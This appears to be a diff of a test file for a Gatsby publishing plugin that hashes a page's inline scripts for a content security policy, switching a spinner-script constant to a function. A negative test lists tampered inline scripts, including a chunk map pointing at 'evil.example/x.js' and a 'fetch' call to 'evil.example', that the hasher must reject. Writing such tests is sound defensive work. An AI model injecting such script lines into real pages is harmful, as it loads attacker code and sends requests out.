@@ -6,8 +6,7 @@
 import fs from "node:fs";
 import path from "node:path";
 import { cspHash, findScripts, isExecutableInline, pageScriptHashes } from "../../plugins/publish/inline-scripts";
-import { bundleLoader } from "../../plugins/publish/page-scripts";
-import { SPINNER_SCRIPT } from "../../src/components/layout/spinner-script";
+import { bundleLoader, spinnerScript } from "../../plugins/publish/page-scripts";
 
 // The inline scripts of a built page: gatsby-plugin-image's two as they are (from a build), Gatsby's chunk map and
 // compilation hash, and the bundle loader.
@@ -77,8 +76,8 @@ describe("pageScriptHashes", () => {
   });
 
   it("admits the spinner's script, which every page has", () => {
-    const hashes = pageScriptHashes(page(`<div id="spinner"></div><script>${SPINNER_SCRIPT}</script>`), "index.html");
-    expect(hashes).toEqual(expect.arrayContaining([...gatsbyHashes, cspHash(SPINNER_SCRIPT)]));
+    const hashes = pageScriptHashes(page(`<div id="spinner"></div><script>${spinnerScript()}</script>`), "index.html");
+    expect(hashes).toEqual(expect.arrayContaining([...gatsbyHashes, cspHash(spinnerScript())]));
     expect(hashes).toHaveLength(gatsbyHashes.length + 1);
   });
 
@@ -88,7 +87,7 @@ describe("pageScriptHashes", () => {
       'window.___chunkMapping="{\\"app\\":[\\"https://evil.example/x.js\\"]}";',
       'window.___webpackCompilationHash="1";fetch("//evil.example")',
       bundleLoader() + ";",
-      SPINNER_SCRIPT.replace("500", "5e9"),
+      spinnerScript() + ";",
     ]) {
       expect(() => pageScriptHashes(page(`<script>${script}</script>`), "terms.html")).toThrow(
         new RegExp(
